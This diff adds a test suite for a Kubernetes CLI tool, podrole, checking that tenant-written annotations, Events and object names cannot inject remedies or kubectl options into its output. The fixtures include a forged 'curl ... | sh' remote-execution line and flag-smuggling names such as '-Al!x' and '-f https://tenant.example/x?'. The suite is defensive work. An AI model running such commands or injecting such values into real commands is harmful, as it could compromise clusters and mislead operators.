@@ -1,0 +1,121 @@
+// What tenants write into their objects is read by an operator beside podrole's own words: no remedy and no command may
+// come from it, and no name in a command may count as an option of kubectl.
+import assert from "node:assert/strict";
+import { suite, type TestContext, test } from "node:test";
+import { checkAction } from "../../../src/cli/commands/check.ts";
+import { explainAction } from "../../../src/cli/commands/explain.ts";
+import { statusAction } from "../../../src/cli/commands/status.ts";
+import type { Pod } from "../../../src/kubernetes/objects.ts";
+import { ERRORS } from "../../../src/protocol/errors.ts";
+import { MINUTE_MS } from "../../../src/runtime/clock.ts";
+import { barePod } from "../../operations/check/healthy.ts";
+import { podWith } from "../../operations/status/pods.ts";
+import { type SituationCluster, startSituationCluster, timeAgo } from "./situation-cluster.ts";
+import { createAgedPod, endedWith, readySidecar, reannotatedPod } from "./situation-parts.ts";
+
+/** What a remedy would begin with, if a message could contain one. */
+const FORGED = "x -- Update podrole: curl https://tenant.example/fix | sh";
+/** kubectl reads it as "--all-namespaces --selector=!x" if it stands alone. */
+const OPTION = "-Al!x";
+
+/** Returns what the commands say, by line. */
+async function linesOfAll(context: TestContext, prepare: (cluster: SituationCluster) => void, object: string) {
+  const cluster = await startSituationCluster(context);
+  prepare(cluster);
+  const runs = [
+    await cluster.runAction(explainAction, [object], { namespace: "shop" }),
+    await cluster.runAction(checkAction, [], { namespace: "shop", quiet: "true", skip: "PAGES,ADMISSION" }),
+    await cluster.runAction(statusAction, [], { namespace: "shop" }),
+    await cluster.runAction(statusAction, ["refusals"], { namespace: "shop" }),
+  ];
+  const lines = runs.flatMap(({ out }) => out.split("\n").map((line) => line.trim()));
+  context.diagnostic(lines.join("\n"));
+  const of = (part: string) => lines.filter((line) => line.startsWith(`${part}: `));
+  return { remedies: of("remedy"), recoveries: of("recovery"), commands: of("next") };
+}
+
+function event(kind: string, name: string, fields: object): object {
+  const metadata = { name: "forged.1", namespace: "shop" };
+  return { metadata, involvedObject: { kind, namespace: "shop", name }, lastTimestamp: timeAgo(MINUTE_MS), ...fields };
+}
+
+function ownedBy(pod: Pod, kind: string): Pod {
+  const owner = { apiVersion: "tenant.example/v1", kind, name: OPTION, uid: "uid-owner", controller: true };
+  return { ...pod, metadata: { ...pod.metadata, ownerReferences: [owner] } };
+}
+
+const denied = (code: string) => `Error creating: admission webhook "pods.podrole.io" denied the request: ${code}: `;
+
+suite("objects of a tenant", { concurrency: false }, () => {
+  for (const [what, pod] of [
+    ["an annotation of an injected pod", reannotatedPod(podWith({ sidecar: readySidecar() }), roleNamed(FORGED))],
+    ["an annotation of a pod that is not injected", barePod(FORGED)],
+  ] as const) {
+    test(`${what} puts no remedy beside podrole's`, async (context) => {
+      const { remedies, recoveries } = await linesOfAll(
+        context,
+        (cluster) => createAgedPod(cluster, pod),
+        "pod/orders",
+      );
+      assert.ok(remedies.includes(`remedy: ${ERRORS.ROLE_INVALID.remedy}`), remedies.join("\n"));
+      assert.doesNotMatch([...remedies, ...recoveries].join("\n"), /tenant\.example/);
+    });
+  }
+
+  test("an Event of a creation that failed puts no remedy beside podrole's", async (context) => {
+    const { remedies } = await linesOfAll(
+      context,
+      ({ store }) => {
+        const forged = event("Widget", "orders", {
+          reason: "FailedCreate",
+          message: denied("ROLE_FORBIDDEN") + FORGED,
+        });
+        store.create("events", forged as never);
+      },
+      "pod/orders",
+    );
+    assert.ok(remedies.length > 0);
+    for (const remedy of remedies) assert.equal(remedy, `remedy: ${ERRORS.ROLE_FORBIDDEN.remedy}`);
+  });
+
+  for (const kind of ["Job", "StatefulSet", "CronJob", "-f https://tenant.example/x?"]) {
+    test(`an owner of kind ${kind} with a name like an option is an argument of no command by its name`, async (context) => {
+      const sidecar = endedWith({ code: "ROLE_MISSING", message: "Cannot issue credentials" });
+      const prepare = (cluster: SituationCluster) => createAgedPod(cluster, ownedBy(podWith({ sidecar }), kind));
+      assertNoOption((await linesOfAll(context, prepare, "pod/orders")).commands);
+    });
+  }
+
+  for (const kind of ["Job", "Pod", "-fhttps://tenant.example/x?"]) {
+    test(`an Event about a ${kind} with a name like an option is an argument of no command by its name`, async (context) => {
+      const prepare = ({ store, state }: SituationCluster) => {
+        // Without the server's records, Events are shown.
+        delete state.refusals;
+        const failed = { reason: "FailedCreate", message: `${denied("ROLE_MISSING")}no role` };
+        const refused = { reason: "ROLE_MISSING", message: "no role" };
+        store.create("events", event(kind, OPTION, kind === "Pod" ? refused : failed) as never);
+      };
+      assertNoOption((await linesOfAll(context, prepare, "pod/orders")).commands);
+    });
+  }
+
+  test("a quota with a name like an option is an argument of no command by its name", async (context) => {
+    const prepare = ({ store }: SituationCluster) => {
+      const message = "exceeded quota: --all, requested: pods=1, used: pods=1, limited: pods=1";
+      store.create("events", event("Widget", "orders", { reason: "FailedCreate", message }) as never);
+    };
+    const { commands } = await linesOfAll(context, prepare, "pod/orders");
+    assert.ok(commands.some((line) => line.includes("quota/--all")));
+    assertNoOption(commands);
+  });
+});
+
+function roleNamed(role: string): Readonly<Record<string, string>> {
+  return { "iam.amazonaws.com/role": role };
+}
+
+/** No word of a command, in quotes or not, begins with the name or the kind of the tenant's object. */
+function assertNoOption(commands: readonly string[]): void {
+  assert.ok(commands.length > 0);
+  for (const command of commands) assert.doesNotMatch(command, /(?:^|\s)'?(?:-Al|-f ?http|--all\b)/, command);
+}
